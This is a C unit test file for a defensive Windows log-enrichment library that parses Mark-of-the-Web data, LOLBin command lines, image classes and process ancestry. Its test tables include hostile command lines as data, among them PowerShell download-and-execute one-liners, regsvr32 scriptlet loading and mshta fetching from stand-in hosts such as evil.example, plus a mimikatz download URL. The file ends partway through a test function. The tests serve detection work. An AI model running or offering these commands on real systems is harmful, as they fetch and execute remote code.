/*
 * Tests for the enrichment parts (src/enrich): Zone.Identifier parsing and merging,
 * command-line targets per LOLBin, image classes, process ancestry (GUIDs, 4688 pids with
 * reuse, eviction), URL parts.  Table-driven; the real-data run is test_enrich_data.c.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "core/event.h"
#include "core/str.h"
#include "enrich/enrich-int.h"
#include "enrich/enrich.h"

#define SYSMON "Microsoft-Windows-Sysmon/Operational"

static lw_str S(const char *s)
{
    return lw_str_c(s);
}

static void assert_str(lw_str got, const char *want, const char *what)
{
    if (!want) {
        if (got.n)
            fail_msg("%s: expected nothing, got '%.*s'", what, (int)got.n, got.p);
        return;
    }
    if (!lw_str_eq_c(got, want))
        fail_msg("%s: expected '%s', got '%.*s'", what, want, (int)got.n, got.p ? got.p : "");
}

/* Build an event: channel, event id, time, host, then name/value pairs ending in NULL. */
static void mk(lw_event *ev, const char *channel, int id, int64_t t, const char *host, ...)
{
    lw_event_reset(ev);
    ev->channel = S(channel);
    ev->event_id = id;
    ev->time_ms = t;
    ev->host = S(host);
    va_list ap;
    va_start(ap, host);
    for (;;) {
        const char *n = va_arg(ap, const char *);
        if (!n)
            break;
        const char *v = va_arg(ap, const char *);
        assert_int_equal(lw_event_add(ev, S(n), S(v), 0), LW_OK);
    }
    va_end(ap);
    assert_int_equal(lw_event_normalize(ev), LW_OK);
}

static lw_str fv(const lw_event *ev, const char *name)
{
    const lw_field *f = lw_event_find(ev, S(name));
    return f ? f->value : LW_STR_NULL;
}

static void expect(const lw_event *ev, const char *name, const char *want)
{
    assert_str(fv(ev, name), want, name);
}

/* ---- Zone.Identifier ------------------------------------------------------------------ */

static void test_motw_parse(void **state)
{
    static const struct {
        const char *in, *zone, *host, *ref;
        bool ok;
    } cases[] = {
        {"[ZoneTransfer]  ZoneId=3  ReferrerUrl=http://10.0.5.13/  HostUrl=http://10.0.5.13/"
         "winx64_payload.exe  ",
         "3", "http://10.0.5.13/winx64_payload.exe", "http://10.0.5.13/", true},
        {"[ZoneTransfer]\r\nZoneId=3\r\nReferrerUrl=https://a.b/c\r\nHostUrl=https://x.y/z.zip\r\n",
         "3", "https://x.y/z.zip", "https://a.b/c", true},
        {"[ZoneTransfer]\\r\\nZoneId=3\\r\\nHostUrl=https://x.y/z.zip\\r\\n", "3",
         "https://x.y/z.zip", NULL, true},
        {"[ZoneTransfer]\nZoneId=3\nHostUrl=about:internet\n", "3", "about:internet", NULL, true},
        {"[ZoneTransfer]  ZoneId=3  ", "3", NULL, NULL, true},
        {"[ZoneTransfer]ZoneId=2", "2", NULL, NULL, true},
        {"[zonetransfer] zoneid=4 hosturl=http://h/ ", "4", "http://h/", NULL, true},
        {"ZoneId=3\tHostUrl=http://a/1 HostUrl=http://b/2", "3", "http://a/1", NULL, true},
        {"-", NULL, NULL, NULL, false},
        {"", NULL, NULL, NULL, false},
        {"\xe6\xb9\x81\xe6\xa1\xa1", NULL, NULL, NULL, false},
        {"ZoneId=", "", NULL, NULL, true},
        {"\\r\\n\\r", NULL, NULL, NULL, false},
        {"HostUrl=http://x/a\\r\\nZoneId=3", "3", "http://x/a", NULL, true},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        lw_motw m;
        bool ok = lw_motw_parse(S(cases[i].in), &m);
        if (ok != cases[i].ok)
            fail_msg("case %zu: parse returned %d", i, ok);
        if (cases[i].zone && !m.zone_id.p)
            fail_msg("case %zu: no ZoneId", i);
        assert_str(m.zone_id, cases[i].zone && *cases[i].zone ? cases[i].zone : NULL, "zone");
        assert_str(m.host_url, cases[i].host, "host");
        assert_str(m.referrer, cases[i].ref, "ref");
    }
}

static void test_split_stream(void **state)
{
    static const struct {
        const char *in, *base, *stream;
    } cases[] = {
        {"C:\\Users\\u\\Downloads\\a.exe:Zone.Identifier", "C:\\Users\\u\\Downloads\\a.exe",
         "Zone.Identifier"},
        {"C:\\x\\b.crdownload:SmartScreen", "C:\\x\\b.crdownload", "SmartScreen"},
        {"C:\\x\\a.exe", "C:\\x\\a.exe", NULL},
        {"C:", "C:", NULL},
        {"a.exe:Zone.Identifier:$DATA", "a.exe", "Zone.Identifier"},
        {"\\\\srv\\share\\f.lnk:Zone.Identifier", "\\\\srv\\share\\f.lnk", "Zone.Identifier"},
        {"", "", NULL},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        lw_str b, s;
        lw_path_split_stream(S(cases[i].in), &b, &s);
        assert_str(b, cases[i].base, "base");
        assert_str(s, cases[i].stream, "stream");
    }
}

static void test_motw_merge(void **state)
{
    lw_enricher *en;
    assert_int_equal(lw_enricher_new(&en), LW_OK);
    lw_event ev;
    lw_event_init(&ev);
    const char *tf = "C:\\Users\\s\\Downloads\\winx64_payload.exe:Zone.Identifier";
    mk(&ev, SYSMON, 15, 1000, "H", "TargetFilename", tf, "Contents", "[ZoneTransfer]  ZoneId=3  ",
       NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "ZoneId", "3");
    expect(&ev, "HostUrl", NULL);
    expect(&ev, "TargetFilenameBase", "C:\\Users\\s\\Downloads\\winx64_payload.exe");
    expect(&ev, "TargetStreamName", "Zone.Identifier");

    mk(&ev, SYSMON, 15, 1001, "H", "TargetFilename", tf, "Contents",
       "[ZoneTransfer]  ZoneId=3  ReferrerUrl=http://10.0.5.13/  ", NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "ReferrerUrl", "http://10.0.5.13/");

    /* Third event: only HostUrl (and an older ZoneId) in this text; ReferrerUrl is merged. */
    mk(&ev, SYSMON, 15, 1002, "H", "TargetFilename", tf, "Contents",
       "[ZoneTransfer]\r\nHostUrl=http://10.0.5.13/winx64_payload.exe\r\n", NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "ZoneId", "3");
    expect(&ev, "ReferrerUrl", "http://10.0.5.13/");
    expect(&ev, "HostUrl", "http://10.0.5.13/winx64_payload.exe");
    expect(&ev, "HostUrl.scheme", "http");
    expect(&ev, "HostUrl.host", "10.0.5.13");
    expect(&ev, "HostUrl.host_is_ip", "true");
    expect(&ev, "HostUrl.port", "80");
    expect(&ev, "HostUrl.path", "/winx64_payload.exe");
    expect(&ev, "HostUrl.extension", ".exe");
    expect(&ev, "HostUrl.registrable_domain", NULL);
    expect(&ev, "ReferrerUrl.path", "/");

    /* Same path on another host does not merge; Contents "-" with the stream name does. */
    mk(&ev, SYSMON, 15, 1003, "OTHER", "TargetFilename", tf, "Contents", "-", NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "ZoneId", NULL);
    mk(&ev, SYSMON, 15, 1004, "H", "TargetFilename", tf, "Contents", "-", NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "HostUrl", "http://10.0.5.13/winx64_payload.exe");

    /* A URL with a registrable domain, case-insensitive path match. */
    mk(&ev, SYSMON, 15, 1005, "H", "TargetFilename",
       "C:\\Users\\s\\Downloads\\Invoice.pdf.js:Zone.Identifier", "Contents",
       "[ZoneTransfer]  ZoneId=3  "
       "HostUrl=https://Files.Evil-Example.co.uk:8443/d/Invoice.pdf.js?x=1 ",
       NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "HostUrl.host", "files.evil-example.co.uk");
    expect(&ev, "HostUrl.registrable_domain", "evil-example.co.uk");
    expect(&ev, "HostUrl.port", "8443");
    expect(&ev, "HostUrl.path", "/d/Invoice.pdf.js");
    expect(&ev, "HostUrl.extension", ".js");
    expect(&ev, "HostUrl.host_is_ip", "false");

    /* The executed file carries its Mark of the Web. */
    mk(&ev, SYSMON, 1, 2000, "H", "Image", "C:\\Users\\s\\Downloads\\WINX64_PAYLOAD.exe",
       "ParentImage", "C:\\Windows\\explorer.exe", "ProcessGuid", "{1}", "ParentProcessGuid", "{0}",
       "CommandLine", "\"C:\\Users\\s\\Downloads\\winx64_payload.exe\"", NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "ImageZoneId", "3");
    expect(&ev, "ImageHostUrl", "http://10.0.5.13/winx64_payload.exe");
    /* ... and a script host opening it too. */
    mk(&ev, SYSMON, 1, 2001, "H", "Image", "C:\\Windows\\System32\\wscript.exe", "ParentImage",
       "C:\\Windows\\explorer.exe", "ProcessGuid", "{2}", "CommandLine",
       "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\s\\Downloads\\Invoice.pdf.js\"", NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "CommandLineTarget", "C:\\Users\\s\\Downloads\\Invoice.pdf.js");
    expect(&ev, "CommandLineTargetKind", "file");
    expect(&ev, "CommandLineTarget.extension", ".js");
    expect(&ev, "CommandLineTargetZoneId", "3");
    expect(&ev, "CommandLineTargetHostUrl",
           "https://Files.Evil-Example.co.uk:8443/d/Invoice.pdf.js?x=1");

    lw_enricher_stats st;
    lw_enricher_stats_get(en, &st);
    assert_true(st.motw_merges >= 2);
    assert_int_equal(st.motw_entries, 3);
    lw_event_destroy(&ev);
    lw_enricher_free(en);
}

static void test_motw_bounds(void **state)
{
    lw_motw_table *t;
    assert_int_equal(lw_motw_table_new(3, 200, &t), LW_OK);
    lw_arena a;
    lw_arena_init(&a, 0);
    char path[64];
    for (int i = 0; i < 10; i++) {
        lw_fmt(path, sizeof path, "C:\\d\\f%d.exe", i);
        lw_motw m;
        assert_true(lw_motw_parse(S("ZoneId=3 HostUrl=http://example.com/a.exe"), &m));
        assert_int_equal(lw_motw_merge(t, S("h"), S(path), &m, &a), LW_OK);
    }
    lw_enricher_stats st = {0};
    lw_motw_table_stats(t, &st);
    assert_true(st.motw_entries <= 3);
    assert_true(st.motw_bytes <= 200);
    assert_int_equal(st.motw_evicted, 10 - st.motw_entries);
    lw_motw m;
    assert_true(lw_motw_lookup(t, S("h"), S("c:\\D\\F9.EXE"), &m));
    assert_false(lw_motw_lookup(t, S("h"), S("C:\\d\\f0.exe"), &m));
    /* Too large for the byte bound: counted, not stored, still returned merged. */
    char big[400];
    memset(big, 'a', sizeof big);
    memcpy(big, "HostUrl=http://x/", 17);
    assert_true(lw_motw_parse((lw_str){big, sizeof big}, &m));
    assert_int_equal(lw_motw_merge(t, S("h"), S("C:\\big"), &m, &a), LW_OK);
    assert_int_equal(m.host_url.n, sizeof big - 8);
    lw_motw_table_stats(t, &st);
    assert_int_equal(st.motw_too_large, 1);
    lw_arena_free(&a);
    lw_motw_table_free(t);
}

/* ---- command lines --------------------------------------------------------------------- */

static void test_cmdline(void **state)
{
    static const struct {
        const char *image, *cmd, *target, *kind, *entry;
        bool encoded;
    } cases[] = {
        /* mshta */
        {"C:\\Windows\\System32\\mshta.exe",
         "\"C:\\Windows\\System32\\mshta.exe\" \"C:\\Users\\IEUser\\AppData\\Local\\Microsoft\\"
         "Windows\\Temporary Internet Files\\Content.IE5\\S97WTYG7\\update.hta\" ",
         "C:\\Users\\IEUser\\AppData\\Local\\Microsoft\\Windows\\Temporary Internet "
         "Files\\Content.IE5\\S97WTYG7\\update.hta",
         "file", NULL, false},
        {"C:\\Windows\\SysWOW64\\mshta.exe", "mshta   http://evil.example/a.hta",
         "http://evil.example/a.hta", "url", NULL, false},
        {"mshta.exe",
         "MSHTA.EXE vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run "
         "\"\"calc\"\"\")(window.close)",
         "vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc\"\"\")(window.close)",
         "inline", NULL, false},
        /* wscript / cscript */
        {"C:\\Windows\\System32\\wscript.exe",
         "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\u\\Downloads\\invoice.js\"",
         "C:\\Users\\u\\Downloads\\invoice.js", "file", NULL, false},
        {"C:\\Windows\\System32\\cscript.exe", "cscript //nologo //E:jscript C:\\t\\a.txt arg1",
         "C:\\t\\a.txt", "file", NULL, false},
        {"C:\\Windows\\System32\\wscript.exe",
         "wscript.exe \"C:\\Users\\u\\AppData\\Local\\Temp\\Temp1_doc.zip\\doc.vbs\"",
         "C:\\Users\\u\\AppData\\Local\\Temp\\Temp1_doc.zip\\doc.vbs", "file", NULL, false},
        /* powershell */
        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
         "powershell.exe -NoP -ExecutionPolicy Bypass -W Hidden -File \"C:\\Users\\u\\Downloads\\x "
         "y.ps1\"",
         "C:\\Users\\u\\Downloads\\x y.ps1", "file", NULL, false},
        {"powershell.exe", "powershell /ep bypass /f C:\\a.ps1", "C:\\a.ps1", "file", NULL, false},
        {"powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", NULL, NULL,
         NULL, true},
        {"powershell.exe", "powershell -e SQBFAFgA", NULL, NULL, NULL, true},
        {"C:\\Program Files\\PowerShell\\7\\pwsh.exe",
         "pwsh -c \"iex (iwr 'https://raw.example.net/s.ps1' -UseBasicParsing)\"",
         "https://raw.example.net/s.ps1", "url", NULL, false},
        {"powershell.exe",
         "powershell.exe \xe2\x80\x93"
         "File C:\\x\\dash.ps1",
         "C:\\x\\dash.ps1", "file", NULL, false},
        {"powershell.exe", "powershell C:\\x\\pos.ps1", "C:\\x\\pos.ps1", "file", NULL, false},
        {"powershell.exe", "powershell -NoProfile", NULL, NULL, NULL, false},
        /* cmd */
        {"C:\\Windows\\System32\\cmd.exe", "cmd.exe /c \"C:\\Users\\u\\Downloads\\run me.bat\"",
         "C:\\Users\\u\\Downloads\\run me.bat", "file", NULL, false},
        {"C:\\Windows\\System32\\cmd.exe",
         "C:\\Windows\\system32\\cmd.exe /d /s /c start \"\" /min "
         "\"C:\\Users\\u\\AppData\\Local\\Temp\\a.exe\"",
         "C:\\Users\\u\\AppData\\Local\\Temp\\a.exe", "file", NULL, false},
        {"cmd.exe", "cmd /C mshta http://bad.example/x.hta", "http://bad.example/x.hta", "url",
         NULL, false},
        {"cmd.exe", "cmd /c call C:\\t\\b.cmd&del x", "C:\\t\\b.cmd", "file", NULL, false},
        {"cmd.exe", "cmd /c echo hi > x.txt", NULL, NULL, NULL, false},
        {"cmd.exe", "cmd.exe /A", NULL, NULL, NULL, false},
        {"cmd.exe", "cmd /k\"\"C:\\a b\\c.bat\" x\"", "C:\\a b\\c.bat", "file", NULL, false},
        /* rundll32 */
        {"C:\\Windows\\System32\\rundll32.exe",
         "rundll32.exe \"C:\\Users\\u\\AppData\\Local\\Temp\\x y.dll\",DllRegisterServer",
         "C:\\Users\\u\\AppData\\Local\\Temp\\x y.dll", "file", "DllRegisterServer", false},
        {"rundll32.exe", "rundll32 C:\\t\\a.dll, #1", "C:\\t\\a.dll", "file", "#1", false},
        {"rundll32.exe", "rundll32.exe url.dll,OpenURL \"C:\\Users\\u\\Downloads\\a.url\"",
         "C:\\Users\\u\\Downloads\\a.url", "file", "OpenURL", false},
        {"rundll32.exe", "rundll32.exe url.dll,FileProtocolHandler https://x.example/p.exe",
         "https://x.example/p.exe", "url", "FileProtocolHandler", false},
        {"rundll32.exe", "rundll32 shell32.dll,ShellExec_RunDLL C:\\Users\\u\\Downloads\\a.exe",
         "C:\\Users\\u\\Downloads\\a.exe", "file", "ShellExec_RunDLL", false},
        {"rundll32.exe", "rundll32 zipfldr.dll,RouteTheCall calc.exe", "calc.exe", "file",
         "RouteTheCall", false},
        {"rundll32.exe",
         "rundll32.exe setupapi.dll,InstallHinfSection DefaultInstall 128 C:\\t\\x.inf",
         "C:\\t\\x.inf", "file", "InstallHinfSection", false},
        {"rundll32.exe", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)",
         "javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", "inline", NULL, false},
        {"rundll32.exe", "rundll32.exe \\\\webdav.example@SSL\\x\\a.dll,Start",
         "\\\\webdav.example@SSL\\x\\a.dll", "unc", "Start", false},
        /* regsvr32 */
        {"C:\\Windows\\System32\\regsvr32.exe",
         "regsvr32 /s /n /u /i:http://evil.example/file.sct scrobj.dll",
         "http://evil.example/file.sct", "url", NULL, false},
        {"regsvr32.exe", "regsvr32.exe -s \"C:\\Users\\u\\AppData\\Roaming\\a.ocx\"",
         "C:\\Users\\u\\AppData\\Roaming\\a.ocx", "file", NULL, false},
        /* msiexec */
        {"C:\\Windows\\System32\\msiexec.exe", "msiexec /q /i http://x.example/pkg.msi",
         "http://x.example/pkg.msi", "url", NULL, false},
        {"msiexec.exe", "MsiExec.exe /I\"C:\\Users\\u\\Downloads\\setup.msi\" /qn",
         "C:\\Users\\u\\Downloads\\setup.msi", "file", NULL, false},
        {"msiexec.exe", "msiexec /l*v log.txt /package C:\\a.msi", "C:\\a.msi", "file", NULL,
         false},
        {"msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V", NULL, NULL, NULL, false},
        /* control, hh */
        {"C:\\Windows\\System32\\control.exe",
         "control.exe \"C:\\Users\\u\\AppData\\Local\\Temp\\evil.cpl\",@0",
         "C:\\Users\\u\\AppData\\Local\\Temp\\evil.cpl", "file", NULL, false},
        {"control.exe", "control.exe /name Microsoft.System", NULL, NULL, NULL, false},
        {"C:\\Windows\\hh.exe", "hh.exe C:\\Users\\u\\Downloads\\help.chm",
         "C:\\Users\\u\\Downloads\\help.chm", "file", NULL, false},
        {"hh.exe", "hh.exe http://evil.example/a.chm", "http://evil.example/a.chm", "url", NULL,
         false},
        {"hh.exe", "hh mk:@MSITStore:C:\\t\\a.chm::/x.htm", "C:\\t\\a.chm", "file", NULL, false},
        /* browsers */
        {"C:\\Program Files\\Internet Explorer\\iexplore.exe",
         "\"C:\\Program Files\\Internet Explorer\\iexplore.exe\" "
         "C:\\Users\\IEUser\\Downloads\\update.html",
         "C:\\Users\\IEUser\\Downloads\\update.html", "file", NULL, false},
        {"C:\\Program Files\\Internet Explorer\\iexplore.exe",
         "\"C:\\Program Files\\Internet Explorer\\iexplore.exe\" SCODEF:1600 CREDAT:275470 "
         "/prefetch:2",
         NULL, NULL, NULL, false},
        {"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
         "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" "
         "https://github.com/gentilkiwi/mimikatz/releases/download/2.2.0-20210810-2/"
         "mimikatz_trunk.zip",
         "https://github.com/gentilkiwi/mimikatz/releases/download/2.2.0-20210810-2/"
         "mimikatz_trunk.zip",
         "url", NULL, false},
        {"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
         "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=renderer "
         "/prefetch:1",
         NULL, NULL, NULL, false},
        /* no image: argv[0] decides; unknown programs give nothing */
        {"", "mshta.exe https://a.example/", "https://a.example/", "url", NULL, false},
        {"C:\\Windows\\notepad.exe", "notepad.exe C:\\a.txt", NULL, NULL, NULL, false},
        {"mshta.exe", "", NULL, NULL, NULL, false},
        {"mshta.exe", "\"", NULL, NULL, NULL, false},
        {"cmd.exe", "cmd /c \"", NULL, NULL, NULL, false},
    };
    char scratch[4096];
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        lw_cmdline_info ci;
        bool ok =
            lw_cmdline_target(S(cases[i].image), S(cases[i].cmd), scratch, sizeof scratch, &ci);
        if (ok != (cases[i].target != NULL))
            fail_msg("case %zu (%s): found=%d target='%.*s'", i, cases[i].cmd, ok, (int)ci.target.n,
                     ci.target.p);
        if (ok) {
            if (!lw_str_eq_c(ci.target, cases[i].target))
                fail_msg("case %zu: target '%.*s', want '%s'", i, (int)ci.target.n, ci.target.p,
                         cases[i].target);
            assert_string_equal(lw_target_kind_name(ci.kind), cases[i].kind);
        }
        assert_str(ci.entry, cases[i].entry, "entry");
        if (ci.encoded != cases[i].encoded)
            fail_msg("case %zu: encoded=%d", i, ci.encoded);
    }
}

static void test_cmdline_bounds(void **state)
{
    /* Many arguments and a tiny scratch: bounded, flagged, no overrun. */
    char cmd[LW_CMDLINE_MAX_BYTES + 100];
    size_t k = 0;
    k += (size_t)snprintf(cmd, sizeof cmd, "wscript.exe");
    while (k + 4 < sizeof cmd - 1) {
        memcpy(cmd + k, " //x", 4);
        k += 4;
    }
    cmd[k] = 0;
    char scratch[8];
    lw_cmdline_info ci;
    assert_false(lw_cmdline_target(S("wscript.exe"), S(cmd), scratch, sizeof scratch, &ci));
    assert_true(ci.truncated);
    assert_true(lw_cmdline_target(S("mshta.exe"), S("mshta \"C:\\a long quoted path\\x.hta\""),
                                  scratch, sizeof scratch, &ci));
    assert_true(ci.truncated);
    assert_int_equal(ci.target.n, sizeof scratch);
}

static void test_find_url(void **state)
{
    static const struct {
        const char *in, *url;
    } cases[] = {
        {"curl.exe -o a.exe https://x.example/a.exe", "https://x.example/a.exe"},
        {"iex(New-Object Net.WebClient).DownloadString('http://1.2.3.4:8080/p')",
         "http://1.2.3.4:8080/p"},
        {"\"HTTPS://A.B/c?d=1&e=2\"", "HTTPS://A.B/c?d=1&e=2"},
        {"xhttp://no", NULL},
        {"http://", NULL},
        {"no url here", NULL},
        {"file:///C:/x", NULL},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        lw_str u = LW_STR_NULL;
        bool ok = lw_cmdline_find_url(S(cases[i].in), &u);
        assert_int_equal(ok, cases[i].url != NULL);
        assert_str(u, cases[i].url, "url");
    }
}

/* ---- classification ------------------------------------------------------------------ */

static void test_classify(void **state)
{
    static const struct {
        const char *image, *primary;
        uint16_t must;
    } cases[] = {
        {"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "browser", LW_CLS_BROWSER},
        {"C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\Application\\chrome.exe", "browser", 0},
        {"C:\\Users\\bob\\AppData\\Local\\BraveSoftware\\Brave-Browser\\Application\\brave.exe",
         "browser", 0},
        {"C:\\Users\\bob\\AppData\\Local\\Programs\\Opera\\opera.exe", "browser", 0},
        {"C:\\Users\\bob\\AppData\\Local\\Programs\\Opera\\launcher.exe", "browser", 0},
        {"C:\\Program Files\\Other\\launcher.exe", NULL, 0},
        {"C:\\Users\\bob\\AppData\\Local\\Yandex\\YandexBrowser\\Application\\browser.exe",
         "browser", 0},
        {"C:\\Users\\bob\\AppData\\Local\\Mozilla Firefox\\firefox.exe", "browser", 0},
        {"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\MSEDGE.EXE", "browser", 0},
        {"C:\\Program Files\\Internet Explorer\\iexplore.exe", "browser", 0},
        {"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "mail_client",
         LW_CLS_OFFICE},
        {"C:\\Users\\bob\\AppData\\Local\\Microsoft\\WindowsApps\\olk.exe", "mail_client", 0},
        {"C:\\Users\\bob\\AppData\\Local\\Thunderbird\\thunderbird.exe", "mail_client", 0},
        {"C:\\Users\\bob\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe", "chat_client", 0},
        {"C:\\Users\\bob\\AppData\\Local\\slack\\app-4.33.90\\slack.exe", "chat_client", 0},
        {"C:\\Users\\bob\\AppData\\Local\\Discord\\app-1.0.9013\\Discord.exe", "chat_client", 0},
        {"C:\\Windows\\System32\\mshta.exe", "script_host", LW_CLS_LOLBIN},
        {"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "script_host", 0},
        {"C:\\Windows\\System32\\cmd.exe", "shell", 0},
        {"C:\\Windows\\explorer.exe", "desktop", 0},
        {"C:\\Program Files\\7-Zip\\7zG.exe", "archive_tool", 0},
        {"C:\\Program Files\\WinRAR\\WinRAR.exe", "archive_tool", 0},
        {"C:\\Windows\\System32\\msiexec.exe", "installer", LW_CLS_LOLBIN},
        {"C:\\Windows\\System32\\rundll32.exe", "lolbin", 0},
        {"hh.exe", "lolbin", 0},
        {"C:\\Windows\\System32\\svchost.exe", NULL, 0},
        {"", NULL, 0},
        {"\\", NULL, 0},
        {"C:\\x\\chrome.exe.bak", NULL, 0},
        {"\"C:\\Windows\\System32\\cmd.exe\"", "shell", 0},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        uint16_t primary;
        uint16_t all = lw_image_classes(S(cases[i].image), &primary);
        const char *got = primary ? lw_class_name(primary) : NULL;
        if ((got == NULL) != (cases[i].primary == NULL) ||
            (got && strcmp(got, cases[i].primary) != 0))
            fail_msg("case %zu (%s): primary %s", i, cases[i].image, got ? got : "(none)");
        assert_true((all & cases[i].must) == cases[i].must);
        /* The primary class is the lowest bit (enrich.c relies on it). */
        assert_int_equal(primary, all & -all);
    }
    char buf[192];
    lw_str j = lw_classes_join(LW_CLS_BROWSER | LW_CLS_SHELL | LW_CLS_LOLBIN, buf, sizeof buf);
    assert_str(j, "browser,shell,lolbin", "join");
    j = lw_classes_join(0xffff, buf, 20);
    assert_true(j.n <= 20);
}

/* ---- ancestry --------------------------------------------------------------------------- */

static void proc1(lw_enricher *en, lw_event *ev, int64_t t, const char *host, const char *guid,
                  const char *pguid, const char *pid, const char *ppid, const char *image,
                  const char *pimage, const char *cmd)
{
    mk(ev, SYSMON, 1, t, host, "ProcessGuid", guid, "ParentProcessGuid", pguid, "ProcessId", pid,
       "ParentProcessId", ppid, "Image", image, "ParentImage", pimage, "CommandLine", cmd, NULL);
    assert_int_equal(lw_enrich_event(en, ev), LW_OK);
}

static void test_ancestry_guid(void **state)
{
    lw_enricher *en;
    assert_int_equal(lw_enricher_new(&en), LW_OK);
    lw_event ev;
    lw_event_init(&ev);
    const char *EXP = "C:\\Windows\\explorer.exe";
    const char *CHR = "C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\Application\\chrome.exe";
    const char *CMD = "C:\\Windows\\System32\\cmd.exe";
    const char *PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    /* explorer's own creation is not in the log; chrome's is. */
    proc1(en, &ev, 1000, "H", "{C}", "{E}", "20", "10", CHR, EXP, "chrome.exe");
    expect(&ev, "ImageClass", "browser");
    expect(&ev, "ParentImageClass", "desktop");
    expect(&ev, "AncestorImages", EXP);
    expect(&ev, "AncestorIsBrowser", "false");
    expect(&ev, "GrandparentImage", NULL);
    proc1(en, &ev, 2000, "H", "{K}", "{C}", "30", "20", CMD, CHR,
          "cmd.exe /c powershell -File C:\\Users\\bob\\Downloads\\a.ps1");
    expect(&ev, "ImageClass", "shell");
    expect(&ev, "AncestorIsBrowser", "true");
    expect(&ev, "GrandparentImage", EXP);
    expect(&ev, "GrandparentImageClass", "desktop");
    expect(&ev, "CommandLineTarget", "C:\\Users\\bob\\Downloads\\a.ps1");
    proc1(en, &ev, 3000, "H", "{P}", "{K}", "40", "30", PS, CMD,
          "powershell -File C:\\Users\\bob\\Downloads\\a.ps1");
    expect(&ev, "AncestorImages",
           "C:\\Windows\\System32\\cmd.exe|C:\\Users\\bob\\AppData\\Local\\"
           "Google\\Chrome\\Application\\chrome.exe|C:\\Windows\\explorer.exe");
    expect(&ev, "AncestorClasses", "browser,shell,desktop");
    expect(&ev, "AncestorIsBrowser", "true");
    expect(&ev, "AncestorIsMailClient", "false");
    expect(&ev, "AncestorIsLinkClient", "true");
    expect(&ev, "GrandparentImage", CHR);

    /* A file written by powershell: the acting process's ancestry by ProcessGuid. */
    mk(&ev, SYSMON, 11, 3500, "H", "ProcessGuid", "{P}", "ProcessId", "40", "Image", PS,
       "TargetFilename", "C:\\Users\\bob\\AppData\\Local\\Temp\\x.exe", NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "ImageClass", "script_host");
    expect(&ev, "ParentImageClass", "shell");
    expect(&ev, "AncestorIsBrowser", "true");
    /* Unknown process: no ancestry fields, not "false". */
    mk(&ev, SYSMON, 3, 3600, "H", "ProcessGuid", "{unknown}", "Image", PS, NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "AncestorIsBrowser", NULL);
    /* The same GUID on a Security event is ignored (only Sysmon carries GUIDs). */
    mk(&ev, "Security", 4663, 3700, "H", "ProcessGuid", "{P}", NULL);
    assert_int_equal(lw_enrich_event(en, &ev), LW_OK);
    expect(&ev, "AncestorIsBrowser", NULL);

    /* Depth is bounded: a chain of 40 cmd.exe under chrome keeps at most 8 images. */
    char g[16], pg[16];
    for (int i = 0; i < 40; i++) {
        lw_fmt(g, sizeof g, "{D%d}", i);
        lw_fmt(pg, sizeof pg, i ? "{D%d}" : "{C}", i - 1);
        proc1(en, &ev, 4000 + i, "H", g, pg, "1", "1", CMD, i ? CMD : CHR, "cmd");
    }
    lw_str imgs = fv(&ev, "AncestorImages");
    size_t bars = 0;
    for (size_t i = 0; i < imgs.n; i++)
        bars += imgs.p[i] == '|';
    assert_int_equal(bars, 7);
    expect(&ev, "AncestorIsBrowser", "false"); /* chrome is 40 levels up */

    /* A cycle (a process claiming to be its own parent) terminates. */
    proc1(en, &ev, 9000, "H", "{Y}", "{Y}", "5", "5", CMD, CMD, "cmd");
    expect(&ev, "ParentImageClass", "shell");
    lw_event_destroy(&ev);
    lw_enricher_free(en);
}

/* Priming: creations read newest first are recorded in time order, so every process
 * inherits its whole ancestry; the read-order check counts lookups that came too early. */
static void test_priming_and_order(void **state)
{
    (void)state;
    const char *EXP = "C:\\Windows\\explorer.exe";
    const char *CHR = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
    const char *CMD = "C:\\Windows\\System32\\cmd.exe";
    const char *DL = "C:\\Users\\bob\\Downloads\\setup.exe";
    lw_event ev;
